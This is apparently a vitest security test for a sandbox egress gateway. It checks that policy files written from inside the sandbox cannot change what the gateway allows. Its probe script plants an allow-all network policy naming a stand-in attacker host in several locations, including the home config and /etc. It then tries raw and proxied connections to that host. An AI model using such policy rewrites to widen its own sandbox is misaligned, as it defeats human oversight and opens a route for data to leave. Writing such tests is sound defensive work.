// The policy of a running sandbox is rewritten from inside. Source: claude-code #81572; EGRESS N25.
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect } from 'vitest';
import { expectDenied, forEachTier, outcomes } from '../support/attack.ts';
import { EgressBox, EVIL } from '../support/egress-box.ts';

forEachTier('nothing that is written inside changes what the gateway decides', async (tier) => {
  await using box = new EgressBox(tier);
  mkdirSync(path.join(box.workspace, '.glovebox'));
  writeFileSync(path.join(box.workspace, '.glovebox/policy.yaml'), 'version: 1\n');
  const result = await box.probe(`
text = 'version: 1\\nnetwork:\\n  mode: all\\n  allow: [${EVIL}]\\n'
for at, file in enumerate(('.glovebox/policy.yaml', 'glovebox.yaml', os.path.expanduser('~/.config/glovebox/policy.yaml'), '/etc/glovebox/policy.yaml', '/.glovebox/policy.yaml', '.glovebox/../.glovebox/policy.yaml')):
    def put():
        os.makedirs(os.path.dirname(os.path.abspath(file)), exist_ok=True)
        open(file, 'w').write(text)
    attempt(f'write{at}', put)
time.sleep(1.5)
raw('evil', b'x', EVIL)
def proxied():
    return verdict(connect_by_proxy(f'${EVIL}:443'))
attempt('evil-proxy', proxied)
control()
`);
  const seen = outcomes(result);
  expect(seen['evil']).not.toMatch(/^200/);
  expect(seen['evil-proxy']).toContain('403 default.deny');
  box.expectOnlyControl(result);
  expectDenied(box, { host: EVIL, rule: 'default.deny' });
  // The home of the sandbox is not the home of the host.
  expect(existsSync(path.join(box.home, '.config/glovebox/policy.yaml'))).toBe(true);
  expect(JSON.stringify(box.egressPolicy())).not.toContain('mode');
  // A second sandbox in the same directory reads no policy that was planted there.
  const after = await box
    .probe(`attempt('evil', lambda: verdict(connect_by_proxy('${EVIL}:443')))`)
    .catch((error: unknown) => String(error));
  expect(typeof after === 'string' ? after : outcomes(after)['evil']).not.toMatch(/OK '200/);
});
